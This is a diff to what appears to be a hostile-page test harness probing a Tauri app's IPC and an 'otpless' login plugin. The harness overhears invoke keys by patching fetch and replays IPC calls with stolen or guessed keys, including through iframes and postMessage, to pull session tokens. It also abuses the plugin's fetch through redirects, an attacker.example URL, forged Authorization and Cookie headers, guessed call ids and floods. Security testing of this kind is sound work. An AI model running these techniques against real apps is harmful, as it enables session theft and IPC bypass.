@@ -32,6 +32,16 @@ export interface Loot {
   lying: Record<string, unknown>;
   flood: { calls: number; answered: number };
   forged: Outcome[];
+  /** What a page that may use `fetch` made of it. */
+  backend: Outcome[];
+}
+
+/** Where a page that may use `fetch` is let loose. */
+export interface Backends {
+  /** One that sends a request's own headers back. */
+  own: string;
+  /** Another origin in the scope. */
+  other: string;
 }
 
 const COMMANDS = [
@@ -121,23 +131,32 @@ function hostileArguments(): [string, unknown][] {
 
 async function attempt(words: string, act: () => unknown): Promise<Outcome> {
   try {
-    return { with: words, ok: true, answer: await inTime(Promise.resolve(act())) };
+    const answer = await inTime(Promise.resolve(act()));
+    return { with: words, ok: answer !== NO_ANSWER, answer: legible(answer) };
   } catch (error) {
     return { with: words, ok: false, answer: plain(error) };
   }
 }
 
-function inTime<T>(answer: Promise<T>): Promise<T | "no answer"> {
-  return Promise.race([answer, new Promise<"no answer">((resolve) => setTimeout(resolve, PATIENCE_MS, "no answer"))]);
+/** Tauri lets a call with a wrong key stand. */
+const NO_ANSWER = "no answer";
+
+function inTime<T>(answer: Promise<T>): Promise<T | typeof NO_ANSWER> {
+  return Promise.race([answer, new Promise<typeof NO_ANSWER>((resolve) => setTimeout(resolve, PATIENCE_MS, NO_ANSWER))]);
 }
 
 /** As something that JSON keeps. */
 function plain(value: unknown): unknown {
-  return value instanceof Error ? { name: value.name, message: value.message, stack: value.stack } : value;
+  return value instanceof Error ? { name: value.name, message: value.message, stack: value.stack } : legible(value);
+}
+
+/** Bytes as the text that they are. */
+function legible(value: unknown): unknown {
+  return value instanceof ArrayBuffer || ArrayBuffer.isView(value) ? new TextDecoder("latin1").decode(value) : value;
 }
 
 /** Puts itself between the page and the network, before anything else runs. Answers how to take it back. */
-function eavesdrop(overheard: string[]): () => void {
+function eavesdrop(overheard: string[], keys: Set<string>): () => void {
   const note = (what: string, ...parts: unknown[]): void => {
     overheard.push([what, ...parts.map((part) => (typeof part === "string" ? part : JSON.stringify(plain(part))))].join(" "));
   };
@@ -146,9 +165,12 @@ function eavesdrop(overheard: string[]): () => void {
   const tauri = internals();
   const { invoke, runCallback } = tauri;
   window.fetch = async (input, init) => {
-    note("fetch", String(input instanceof Request ? input.url : input), String(init?.body ?? ""));
+    const headers = new Headers(init?.headers);
+    note("fetch", String(input instanceof Request ? input.url : input), String(legible(init?.body ?? "")), [...headers]);
+    const key = headers.get("Tauri-Invoke-Key");
+    if (key !== null) keys.add(key);
     const response = await fetch.call(window, input, init);
-    note("fetched", await response.clone().text().catch(String));
+    note("fetched", await response.clone().text().catch(String), [...response.headers]);
     return response;
   };
   XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
@@ -230,7 +252,7 @@ async function readStorage(): Promise<Record<string, unknown>> {
 }
 
 /** A frame has a script world of its own, into which Tauri may have put something, and which patches do not reach. */
-async function tryFrames(): Promise<Record<string, unknown>> {
+async function tryFrames(key: string): Promise<Record<string, unknown>> {
   const tried: Record<string, unknown> = {};
   for (const [name, prepare] of [
     ["about:blank", () => {}],
@@ -244,14 +266,14 @@ async function tryFrames(): Promise<Record<string, unknown>> {
     document.body.append(frame);
     tried[name] = await attempt(name, async () => {
       await inTime(loaded);
-      const inside = frame.contentWindow as (Window & { document: Document }) | null;
+      const inside = frame.contentWindow as Frame | null;
       if (inside === null) return "no window";
       const tauri = internals(inside);
-      if (tauri === undefined) return { tauri: false, text: inside.document.documentElement.outerHTML };
       return {
-        tauri: true,
-        token: await attempt("get_session_token", () => tauri.invoke("plugin:otpless|get_session_token")),
-        session: await attempt("get_session", () => tauri.invoke("plugin:otpless|get_session")),
+        text: tauri === undefined ? inside.document.documentElement.outerHTML : undefined,
+        invoked: tauri && (await both((command) => tauri.invoke(command))),
+        byHand: await both((command) => byHand(command, key, inside.fetch.bind(inside))),
+        byMessage: await both((command) => byMessage(command, key, inside)),
       };
     });
     frame.remove();
@@ -259,23 +281,89 @@ async function tryFrames(): Promise<Record<string, unknown>> {
   return tried;
 }
 
+type Frame = Window & typeof globalThis & { webkit?: { messageHandlers?: { ipc?: { postMessage(message: string): void } } } };
+
+/** What every page may have, to see whether the way is one at all, and what this one may not. */
+async function both(invoke: (command: string) => unknown): Promise<{ session: Outcome; token: Outcome }> {
+  return {
+    session: await attempt("get_session", () => invoke("plugin:otpless|get_session")),
+    token: await attempt("get_session_token", () => invoke("plugin:otpless|get_session_token")),
+  };
+}
+
 /** Tauri's IPC by hand, past everything that Tauri's script does. */
-async function callByHand(): Promise<Outcome[]> {
-  const command = encodeURIComponent("plugin:otpless|get_session_token");
+async function byHand(command: string, key: string | undefined, fetcher: typeof fetch): Promise<unknown> {
+  const response = await fetcher(`ipc://localhost/${encodeURIComponent(command)}`, {
+    method: "POST",
+    body: "{}",
+    headers: {
+      "Content-Type": "application/json",
+      "Tauri-Callback": "1",
+      "Tauri-Error": "2",
+      ...(key !== undefined && { "Tauri-Invoke-Key": key }),
+    },
+  });
+  const text = await response.text();
+  if (response.headers.get("Tauri-Response") !== "ok") throw new Error(`${response.status}: ${text}`);
+  return JSON.parse(text) as unknown;
+}
+
+/** The same the way Tauri goes where a webview has no such protocol; the answer comes to the page around the frame. */
+function byMessage(command: string, key: string, from: Frame): Promise<unknown> {
+  return new Promise((resolve, reject) => {
+    const [callback, error] = [resolve, reject].map((settle) => internals().transformCallback(settle, true));
+    const options = { customProtocolIpcBlocked: true };
+    const ipc = from.webkit?.messageHandlers?.ipc;
+    if (ipc === undefined) throw new Error("no such way");
+    ipc.postMessage(JSON.stringify({ cmd: command, callback, error, payload: {}, options, __TAURI_INVOKE_KEY__: key }));
+  });
+}
+
+async function callByHand(key: string): Promise<Outcome[]> {
   const outcomes: Outcome[] = [];
-  for (const headers of [
-    {},
-    { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "" },
-    { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "guessed", Origin: "tauri://localhost" },
-  ]) {
-    outcomes.push(
-      await attempt(`IPC by hand with ${Object.keys(headers).length} headers`, async () => {
-        const response = await fetch(`ipc://localhost/${command}`, { method: "POST", body: "{}", headers });
-        const text = await response.text();
-        if (!response.ok) throw new Error(`${response.status}: ${text}`);
-        return text;
-      }),
-    );
+  for (const [words, tried] of [
+    ["no key", undefined],
+    ["an empty key", ""],
+    ["a guessed key", "guessed"],
+    ["the overheard key", key],
+  ] as const) {
+    const { session, token } = await both((command) => byHand(command, tried, window.fetch.bind(window)));
+    outcomes.push({ ...session, with: `get_session with ${words}` }, { ...token, with: `get_session_token with ${words}` });
+  }
+  return outcomes;
+}
+
+/** A page that may call its backend makes the most of that: other headers, other places, other people's calls, more of them. */
+async function abuseFetch({ own, other }: Backends): Promise<Outcome[]> {
+  const invoke = (command: string, args: unknown): Promise<unknown> => internals().invoke(`plugin:otpless|${command}`, args);
+  const open = (request: object): Promise<unknown> => invoke("fetch", { request });
+  const whole = async (request: object): Promise<unknown> => {
+    const call = await open(request);
+    const head = (await invoke("fetch_send", { call })) as { hasBody: boolean };
+    return { head, body: head.hasBody ? legible(await invoke("fetch_read", { call })) : "" };
+  };
+  const outcomes: Outcome[] = [];
+  const tries: [string, object][] = [
+    ["its own headers back", { url: `${own}/echo` }],
+    ["a redirect elsewhere", { url: `${own}/redirect?to=${encodeURIComponent(`${other}/seen`)}` }],
+    ["a redirect elsewhere and back", { url: `${own}/redirect?to=${encodeURIComponent(`${other}/redirect?to=${own}/echo`)}` }],
+    ["outside of the scope", { url: "https://attacker.example/" }],
+    ...["Authorization", "Cookie", "Host", "X-Forwarded-Host", "X-Original-URL", "Proxy-Authorization"].map(
+      (name): [string, object] => [`the header ${name}`, { url: `${own}/echo`, headers: [[name, "attacker"]] }],
+    ),
+  ];
+  for (const [words, request] of tries) {
+    outcomes.push(await attempt(words, () => whole(request)));
+  }
+  const call = (await open({ url: `${own}/echo` })) as number;
+  for (const guess of [0, 1, 2, 7, call - 1, call + 1, -call, Number.MAX_SAFE_INTEGER]) {
+    outcomes.push(await attempt("the number of somebody else's call", () => invoke("fetch_read", { call: guess })));
+  }
+  const opened = await Promise.allSettled(Array.from({ length: FLOOD }, () => open({ url: `${own}/echo` })));
+  const count = opened.filter(({ status }) => status === "fulfilled").length;
+  outcomes.push({ with: `${FLOOD} calls at once`, ok: true, answer: count });
+  for (const one of opened) {
+    if (one.status === "fulfilled") await attempt("", () => invoke("fetch_cancel", { call: one.value }));
   }
   return outcomes;
 }
@@ -303,11 +391,15 @@ async function flood(): Promise<Loot["flood"]> {
   return { calls: FLOOD, answered: answers.length };
 }
 
-/** Everything but `logout`, which is what anybody may do to themselves and would end the show. */
-export async function attack(): Promise<Loot> {
+/**
+ * Everything but `logout`, which is what anybody may do to themselves and would end the show. With `backends` also what
+ * `fetch` is good for.
+ */
+export async function attack(backends?: Backends): Promise<Loot> {
   const overheard: string[] = [];
   const heard: unknown[] = [];
-  const takeBack = eavesdrop(overheard);
+  const keys = new Set<string>();
+  const takeBack = eavesdrop(overheard, keys);
   await listenToEverything(heard);
   const commands: Loot["commands"] = {};
   for (const command of COMMANDS) {
@@ -317,15 +409,19 @@ export async function attack(): Promise<Loot> {
       commands[command].push(await attempt(words, () => internals().invoke(`plugin:otpless|${command}`, args)));
     }
   }
-  commands["by hand"] = await callByHand();
+  const key = [...keys][0] ?? "none was overheard";
+  commands["by hand"] = await callByHand(key);
   commands["elsewhere"] = [];
   for (const [command, args] of ELSEWHERE) {
+    // Granted to the main window, and would end the session that the rest is about.
+    if (backends !== undefined && command.startsWith("rehearse_")) continue;
     commands["elsewhere"].push(await attempt(command, () => internals().invoke(command, args)));
   }
-  const frames = await tryFrames();
+  const frames = await tryFrames(key);
   const forged = await forge();
   const storage = await readStorage();
   const lying = lookAround();
   takeBack();
-  return { commands, heard, storage, frames, overheard, lying, flood: await flood(), forged };
+  const backend = backends === undefined ? [] : await abuseFetch(backends);
+  return { commands, heard, storage, frames, overheard, lying, flood: await flood(), forged, backend };
 }
